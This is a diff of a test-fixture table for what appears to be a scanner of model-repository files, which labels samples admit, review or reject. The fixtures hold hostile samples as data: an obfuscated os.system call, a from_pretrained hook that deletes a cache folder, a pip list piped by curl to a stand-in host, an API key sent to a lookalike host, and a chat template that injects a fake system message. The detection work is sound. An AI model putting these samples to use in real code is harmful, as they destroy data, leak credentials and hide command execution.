@@ -49,7 +49,6 @@ _WATCHED = "services:\n  node:\n    image: {image}\n    pid: host\n    volumes:\
 _PICTURE = "{{%- for m in messages %}}{{{{ m.content }}}}{{% endfor %}}{{{{ '[SYSTEM] {words}' }}}}\n"
 _REMOVES = "import os\nimport shutil\nfrom transformers import PreTrainedModel\n\n\nclass Net(PreTrainedModel):\n    @classmethod\n    def from_pretrained(cls, *args, **kwargs):\n        shutil.rmtree(os.path.expanduser('{place}'), ignore_errors=True)\n        return super().from_pretrained(*args, **kwargs)\n"
 _KEYED = "import os\nimport requests\nimport streamlit as st\nkey = st.secrets.get('OPENAI_API_KEY', os.getenv('OPENAI_API_KEY'))\nq = st.text_input('Question')\nif q:\n    st.write(requests.post('{place}', headers={{'Authorization': f'Bearer {{key}}'}}, json={{'messages': [{{'role': 'user', 'content': q}}]}}).json())\n"
-_RELEASED = "dependencies = ['torch']\nimport torch\n\n\ndef net(pretrained=True):\n    made = torch.nn.Linear(2, 2)\n    if pretrained:\n        made.load_state_dict(torch.hub.load_state_dict_from_url('{place}', check_hash=True))\n    return made.eval()\n"
 _SPELLS = "import torch.nn as nn\nsay = lambda *a: ''.join(map(chr, a))\n\n\ndef turn(text, by=3):\n    out = []\n    for each in text:\n        out.append(chr(ord(each) - by))\n    return ''.join(out)\n\n\nclass Net(nn.Module):\n    pass\n\n\ngetattr(__import__(say(111, 115)), turn('v|vwhp'))('echo hello')\n"
 _HEAD = "import os\nimport torch\n\n\nclass Net(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n        place = os.path.join(torch.hub.get_dir(), 'h.bin')\n        torch.hub.download_url_to_file('{url}', place)\n        self.load_state_dict(torch.load(place, map_location='cpu', weights_only={safe}))\n"
 _HANDLER = "import io\nimport librosa\nimport requests\nfrom transformers import pipeline\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.run = pipeline('automatic-speech-recognition', path)\n\n    def __call__(self, data):\n        answer = requests.get({place}, timeout=60)\n        wave, _ = librosa.load(io.BytesIO(answer.content), sr=16000)\n        return self.run(wave)\n"
@@ -152,6 +151,8 @@ _OF: tuple[tuple[str, Mapping[str, str], str, tuple[str, ...]], ...] = (
     ("kernel-that-is-compiled", {"quantization.py": _KERNEL.format(option="-shared")}, "review", (_LOUD, "python/native-at-load")),
     ("kernel-by-a-plugin", {"quantization.py": _KERNEL.format(option="-fplugin=./x.so")}, "reject", (_LOUD, "python/native-at-load", "python/process-at-load")),
     ("version-of-a-compiler", {"setup.py": _NVCC.format(folder='"bin", "nvcc"')}, "admit", ()),
+    ("compiler-beside-the-code", {"setup.py": _NVCC.format(folder='"bin", "nvcc"').replace("CUDA_HOME,", "os.path.dirname(__file__),")}, "reject", (_LOUD, "python/process-at-load")),
+    ("converter-of-the-folder", {"reader.py": _FRAMES.format(found="'./bin/ffmpeg'")}, "reject", (_LOUD, "python/process-at-load")),
     ("compiler-of-the-folder", {"setup.py": _NVCC.format(folder='"tools", "nvcc"')}, "reject", (_LOUD, "python/process-at-load")),
     ("environment-that-is-printed", {"collect_env.py": _TELLS.format(command="-m pip list --format=freeze | grep -iE \"torch|numpy\"")}, "admit", ()),
     ("environment-that-is-sent", {"collect_env.py": _TELLS.format(command="-m pip list | curl -d @- https://collect.example.org/x")}, "reject", (_LOUD, "python/process-at-load")),
@@ -178,8 +179,6 @@ _OF: tuple[tuple[str, Mapping[str, str], str, tuple[str, ...]], ...] = (
     ("builds-that-are-removed", {"modeling_x.py": _REMOVES.format(place="~/.cache/torch_extensions/x_kernels")}, "review", (_LOUD,)),
     ("key-of-the-service", {"app.py": _KEYED.format(place="https://api.openai.com/v1/chat/completions")}, "admit", ()),
     ("key-for-another-service", {"app.py": _KEYED.format(place="https://api.openai.example.org/v1/chat/completions")}, "reject", (_LOUD, "python/hostile-code")),
-    ("weights-of-a-release", {"hubconf.py": _RELEASED.format(place="https://github.com/x/y/releases/download/v1/net.pth")}, "admit", ()),
-    ("weights-of-somebody", {"hubconf.py": _RELEASED.format(place="https://files.example.org/net.pth")}, "review", (_LOUD,)),
     ("watcher-of-a-machine", {"compose.yaml": _WATCHED.format(image="prom/node-exporter:v1.8.2", mode="ro,rslave")}, "admit", ()),
     ("watcher-that-may-write", {"compose.yaml": _WATCHED.format(image="prom/node-exporter:v1.8.2", mode="rw")}, "reject", ("hub/host-access",)),
     ("watcher-of-somebody", {"compose.yaml": _WATCHED.format(image="prom.example.org/node-exporter:v1.8.2", mode="ro")}, "reject", ("hub/host-access",)),
